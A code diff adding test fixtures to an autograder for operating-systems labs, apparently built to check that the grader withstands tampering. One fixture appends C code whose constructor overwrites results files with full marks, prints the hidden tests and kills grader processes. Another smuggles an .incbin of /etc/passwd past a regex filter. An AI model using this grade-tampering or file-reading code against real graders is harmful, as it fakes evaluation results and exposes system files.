@@ -10,11 +10,13 @@ from __future__ import annotations
 import json
 import re
 import shutil
+import subprocess
 from pathlib import Path
 from typing import Callable
 
 ROOT = Path(__file__).resolve().parent.parent.parent
 LAB_SOURCES = (".c", ".h", ".S")
+LABS = sorted(int(d.name.split("-")[0][3:]) for d in (ROOT / "labs").glob("lab*-*") if d.is_dir())
 
 
 def lab_dir(repo: Path, lab: int) -> Path:
@@ -97,6 +99,104 @@ def missing_lab1(repo: Path) -> None:
     shutil.rmtree(lab_dir(repo, 1))
 
 
+def commit(repo: Path, message: str) -> None:
+    """What the student README says to do with the work: commit it."""
+    env = {"GIT_AUTHOR_NAME": "Student", "GIT_AUTHOR_EMAIL": "student@cairn.invalid",
+           "GIT_COMMITTER_NAME": "Student", "GIT_COMMITTER_EMAIL": "student@cairn.invalid",
+           "PATH": "/usr/bin:/bin", "HOME": str(repo)}
+    if not (repo / ".git").is_dir():
+        subprocess.run(["git", "init", "-q", str(repo)], check=True, env=env)
+    subprocess.run(["git", "-C", str(repo), "add", "-A"], check=True, env=env)
+    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", message], check=True, env=env)
+
+
+def honest(lab: int) -> Callable[[Path], None]:
+    """A week-`lab` student as the README says: `make use-reference LABS=lab1,...`
+    for the labs before, lab `lab` done, and both committed."""
+    def make(repo: Path) -> None:
+        (repo / ".use-reference").write_text(",".join(f"lab{n}" for n in range(1, lab)) + "\n")
+        for src in lab_dir(ROOT, lab).rglob("*"):
+            if src.suffix in LAB_SOURCES:
+                shutil.copy(src, lab_dir(repo, lab) / src.relative_to(lab_dir(ROOT, lab)))
+        commit(repo, f"lab {lab} done, labs 1-{lab - 1} from the reference")
+    return make
+
+
+# A unique line of the hidden tests: it must never reach what a student sees.
+def hidden_canary() -> str:
+    text = (ROOT / "grade" / "hidden" / "lab1.py").read_text()
+    return next(l.strip() for l in text.splitlines() if l.startswith("def "))
+
+
+def hostile_host_test(targets: list[Path], hidden: Path, grader: Path) -> Callable[[Path], None]:
+    """The reference lab 1, plus a constructor that runs in the host tests: it
+    writes full marks into every results file it can name and into the grader,
+    signals its parent and every process of the grader (found by its tree's
+    path, `grader`: were the wall missing, nothing else may die), and prints the
+    grader's hidden tests."""
+    def make(repo: Path) -> None:
+        solve(repo)
+        paths = ", ".join(f'"{p}"' for p in targets)
+        evil = f"""
+#if defined(__x86_64__)
+#include <dirent.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+static void kill_the_grader(void)
+{{
+    DIR *proc = opendir("/proc");
+    for (struct dirent *e; proc && (e = readdir(proc));) {{
+        char path[64], cmd[4096] = "";
+        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
+        FILE *f = fopen(path, "r");
+        size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
+        if (f)
+            fclose(f);
+        for (size_t i = 0; i < n; i++)
+            cmd[i] = cmd[i] ? cmd[i] : ' ';
+        if (strstr(cmd, "{grader}") && atoi(e->d_name) != getpid())
+            kill(atoi(e->d_name), SIGKILL);
+    }}
+    if (proc)
+        closedir(proc);
+    kill(getppid(), SIGKILL);
+}}
+__attribute__((constructor)) static void take_the_grade(void)
+{{
+    static const char *const results[] = {{{paths}, "../grader-results.json", "../../grader-results.json"}};
+    for (unsigned i = 0; i < sizeof results / sizeof *results; i++) {{
+        FILE *f = fopen(results[i], "w");
+        if (f) {{ fputs("{{\\"score\\": 930, \\"tests\\": []}}", f); fclose(f); }}
+    }}
+    FILE *h = fopen("{hidden}", "r");
+    for (int c; h && (c = fgetc(h)) != EOF;)
+        putchar(c);
+    kill_the_grader();
+}}
+#endif
+"""
+        with open(lab_dir(repo, 1) / "pic.c", "a") as f:
+            f.write(evil)
+    return make
+
+
+def raw_string_incbin(repo: Path) -> None:
+    """.incbin hidden from a regex by a raw string that looks like a comment opener."""
+    solve(repo)
+    with open(lab_dir(repo, 1) / "pic.c", "a") as f:
+        f.write('\nstatic const char *opener = R"X(" /*)X";\n'
+                '__asm__(".section .rodata\\n.incbin \\"/etc/passwd\\"\\n.previous");\n')
+
+
+def duplicate_folder(repo: Path) -> None:
+    """The reference lab 1, and a stale copy of the handout's beside it."""
+    shutil.copytree(lab_dir(repo, 1), repo / "labs" / "lab1-backup")
+    solve(repo)
+
+
 SUBMISSIONS: dict[str, Callable[[Path], None]] = {
     "reference": solve,
     "handout": lambda repo: None,
@@ -105,6 +205,9 @@ SUBMISSIONS: dict[str, Callable[[Path], None]] = {
     "include-parent": include_parent,
     "bad-kernel": bad_kernel,
     "missing-lab1": missing_lab1,
+    "raw-string-incbin": raw_string_incbin,
+    "duplicate-folder": duplicate_folder,
+    **{f"honest-lab{n}": honest(n) for n in LABS if n >= 2},
 }
 
 
